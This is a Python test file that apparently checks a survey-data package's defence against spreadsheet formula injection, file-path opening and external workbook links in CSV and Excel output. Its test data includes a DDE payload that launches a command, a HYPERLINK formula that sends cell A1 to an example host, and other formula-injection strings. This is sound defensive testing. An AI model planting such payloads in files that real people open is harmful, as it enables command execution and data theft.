"""V16: what a spreadsheet would run comes out as text, in CSV and in Excel, and numbers stay numbers."""

from __future__ import annotations

import csv
import subprocess
import sys
import textwrap
import warnings
from pathlib import Path

import openpyxl
import polars as pl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from vcif._errors import DataError
from vcif.dataset.codebook_file import parse_codebook
from vcif.dataset.firms_file import save_firms
from vcif.dataset.save import save_frame
from vcif.dataset.survey import read_survey

RUN = [
    "=1+1",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\nx",
    "  =1",
    "\ufeff=1",
    "\u00a0=1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(A1)",
    '=HYPERLINK("http://example.org?x="&A1,"click")',
    "-",
]
SAFE = [
    "plain",
    "-9",
    "+5",
    "-1.5e3",
    "-12,5",
    "5-3",
    "a=b",
    "me@example.org",
    "",
    " -9 ".strip(),
    "1,299.99",
]
LEADING = set("=+-@\t\r\n＝＋－＠﹦﹢﹣﹫")


def begins_like_a_formula(text: str) -> bool:
    trimmed = text.strip(" \u00a0\ufeff\u200b\u2060")
    return trimmed[:1] in LEADING


def read_csv(path: Path, delimiter: str = ",") -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as file:
        return list(csv.reader(file, delimiter=delimiter))


def read_xlsx(path: Path) -> list[tuple[object, ...]]:
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        return list(openpyxl.load_workbook(path).worksheets[0].values)


@pytest.mark.parametrize("ending", [".csv", ".xlsx"])
def test_v16_a_cell_that_would_run_is_text(tmp_path, ending):
    path = save_frame(pl.DataFrame({"value": RUN}), tmp_path / f"out{ending}")
    rows = read_csv(path)[1:] if ending == ".csv" else read_xlsx(path)[1:]
    assert len(rows) == len(RUN)
    for row, text in zip(rows, RUN, strict=True):
        assert str(row[0]).startswith("'")
        back = str(row[0])[1:].replace("'", "").replace("_x000D_", "\r")  # openpyxl leaves the escape
        assert back.split() == text.replace("'", "").split()
    if ending == ".xlsx":
        sheet = openpyxl.load_workbook(path).worksheets[0]
        assert {cell.data_type for row in sheet.iter_rows(min_row=2) for cell in row} == {"s"}


@pytest.mark.parametrize("ending", [".csv", ".xlsx"])
def test_v16_numbers_and_plain_text_are_not_touched(tmp_path, ending):
    frame = pl.DataFrame({"text": SAFE, "number": [-1.5] * len(SAFE), "count": [-7] * len(SAFE)})
    path = save_frame(frame, tmp_path / f"out{ending}")
    rows = read_csv(path)[1:] if ending == ".csv" else read_xlsx(path)[1:]
    assert [row[0] or "" for row in rows] == SAFE
    assert {float(row[1]) for row in rows} == {-1.5}
    assert {int(row[2]) for row in rows} == {-7}


def test_v16_levels_and_headers_are_made_safe_too(tmp_path):
    levels = pl.Series("=level", ["=1+1", "b"], dtype=pl.Enum(["=1+1", "b"]))
    for ending in (".csv", ".xlsx"):
        path = save_frame(pl.DataFrame([levels]), tmp_path / f"out{ending}")
        rows = read_csv(path) if ending == ".csv" else read_xlsx(path)
        assert [row[0] for row in rows] == ["'=level", "'=1+1", "b"]


def test_v16_headers_that_become_the_same_stay_apart(tmp_path):
    path = save_frame(pl.DataFrame({"=a": ["x"], "'=a": ["y"]}), tmp_path / "out.csv")
    assert read_csv(path) == [["''=a", "'=a"], ["x", "y"]]


@settings(max_examples=60, deadline=None)
@given(
    st.lists(
        st.text(st.sampled_from("=+-@;,\t\r\n\"' ax1＝－") | st.characters(codec="utf-8"), max_size=8),
        min_size=1,
        max_size=6,
    )
)
def test_v16_no_text_begins_a_formula_however_the_file_is_split(tmp_path_factory, texts):
    folder = tmp_path_factory.mktemp("safe")
    texts = [text.replace("\0", "") for text in texts]
    frame = pl.DataFrame({"firm_id": [f"F{i}" for i in range(len(texts))], "value": texts})
    path = save_frame(frame, folder / "out.csv")
    for row in read_csv(path):
        for cell in row:
            assert not begins_like_a_formula(cell) or _is_number(cell)
    # the same bytes in a spreadsheet that takes a semicolon or a tab for the separator
    raw = path.read_text(encoding="utf-8-sig")
    for separator in ";\t":
        for line in raw.replace("\r", "\n").split("\n"):
            for cell in line.split(separator)[1:]:
                assert not begins_like_a_formula(cell.strip('"'))
        for line in raw.replace("\r", "\n").split("\n")[1:]:
            assert not begins_like_a_formula(line.strip('"'))


def _is_number(text: str) -> bool:
    return text.lstrip("+-").replace(".", "").replace(",", "").replace("e", "").isdigit()


@pytest.mark.parametrize("ending", [".csv", ".xlsx"])
def test_v16_from_a_survey_file_to_the_classified_file(tmp_path, read_text, ending):
    formula = '=HYPERLINK("http://example.org","x")'
    survey = read_text(
        f'id,buys,sells,size\n"{formula.replace(chr(34), chr(34) * 2)}",1,2,@SUM(1)\nB,1,2,x\n',
        covariates=[{"id": "size", "column": "size", "label": "=1+1", "kind": "category"}],
    )
    assert survey.firms["firm_id"].to_list() == [formula, "B"]
    path = save_firms(survey.firms, tmp_path / f"firms{ending}", survey.codebook).path
    rows = read_csv(path) if ending == ".csv" else read_xlsx(path)
    assert rows[1][0] == "'" + formula
    assert rows[1][rows[0].index("size")] == "'@SUM(1)"
    if ending == ".xlsx":
        for sheet in openpyxl.load_workbook(path).worksheets:
            assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


@pytest.mark.parametrize(
    ("frame", "what"),
    [
        (pl.DataFrame({"x": ["y" * 32_768]}), "a text of more than 32,767 characters"),
        (pl.DataFrame({"x": [10**15 + 1]}), "a whole number of more than 15 digits"),
        (pl.DataFrame({"x": [float("inf")]}), "an infinite number"),
        (pl.DataFrame({"x": [[1, 2]]}), "more than one value a cell"),
    ],
)
def test_excel_refuses_what_it_would_lose(tmp_path, frame, what):
    with pytest.raises(DataError, match=f'column "x" holds {what}'):
        save_frame(frame, tmp_path / "out.xlsx")


def test_excel_refuses_more_rows_than_a_sheet_has(tmp_path):
    with pytest.raises(DataError, match="a sheet has 1,048,575 rows below its header"):
        save_frame(pl.DataFrame({"x": pl.repeat(1, 1_048_576, eager=True)}), tmp_path / "out.xlsx")


def test_a_csv_of_lists_is_refused_in_words(tmp_path):
    with pytest.raises(DataError, match=r"cannot write out\.csv"):
        save_frame(pl.DataFrame({"x": [[1, 2]]}), tmp_path / "out.csv")


def test_no_path_in_a_file_is_opened(tmp_path):
    """The names of files and addresses in cells, headers, labels and the codebook stay text."""
    secret = tmp_path / "secret.txt"
    secret.write_text("hidden", encoding="utf-8")
    data, book, out = tmp_path / "firms.csv", tmp_path / "firms.toml", tmp_path / "out.csv"
    data.write_text(
        f"id,buys,sells,{secret}\n{secret},1,2,file://{secret}\nhttp://example.org/x,1,2,!include {secret}\n",
        encoding="utf-8",
    )
    book.write_text(
        textwrap.dedent(f"""
        [study]
        title = "file://{secret.as_posix()}"
        [firm]
        id = "id"
        [[activities]]
        id = "a"
        column = "buys"
        side = "upstream"
        label = "{secret.as_posix()}"
        yes = [1]
        no = [2]
        [[activities]]
        id = "b"
        column = "sells"
        side = "downstream"
        label = "l"
        yes = [1]
        no = [2]
        """),
        encoding="utf-8",
    )
    script = textwrap.dedent("""
        import sys
        opened = []
        import vcif, vcif.dataset.firms_file, openpyxl, polars
        sys.addaudithook(lambda event, details: opened.append((event, str(details[0]))) if event in
                         ("open", "socket.connect", "socket.getaddrinfo", "subprocess.Popen", "os.system") else None)
        survey = vcif.read_survey(sys.argv[1], sys.argv[2])
        vcif.save_firms(vcif.classify(survey.firms), sys.argv[3], survey.codebook)
        assert survey.firms["firm_id"][0] == sys.argv[4], survey.firms
        for event, name in opened:
            assert "secret" not in name and not event.startswith("socket"), (event, name)
    """)
    arguments = [str(data), str(book), str(out), str(secret)]
    ended = subprocess.run(
        [sys.executable, "-c", script, *arguments],
        capture_output=True,
        text=True,
        check=False,
        cwd=Path(__file__).parents[2],
    )
    assert ended.returncode == 0, ended.stderr


def test_a_workbook_that_links_to_another_file_is_read_without_it(tmp_path):
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(["id", "buys", "sells"])
    sheet.append(["A", 1, 2])
    sheet.append(["B", "='file:///nowhere/[other.xlsx]Sheet1'!A1", 1])
    book.save(tmp_path / "linked.xlsx")
    one_two = {"yes": [1], "no": [2]}
    codebook = parse_codebook(
        {
            "study": {"title": "Test"},
            "firm": {"id": "id"},
            "activities": [
                {"id": "buys", "column": "buys", "side": "upstream", "label": "b", **one_two},
                {"id": "sells", "column": "sells", "side": "downstream", "label": "s", **one_two},
            ],
        },
        "test.toml",
    )
    survey = read_survey(tmp_path / "linked.xlsx", codebook)
    assert survey.firms["upstream"].to_list() == [True, None]
    assert survey.problems.filter(pl.col("column") == "buys").height
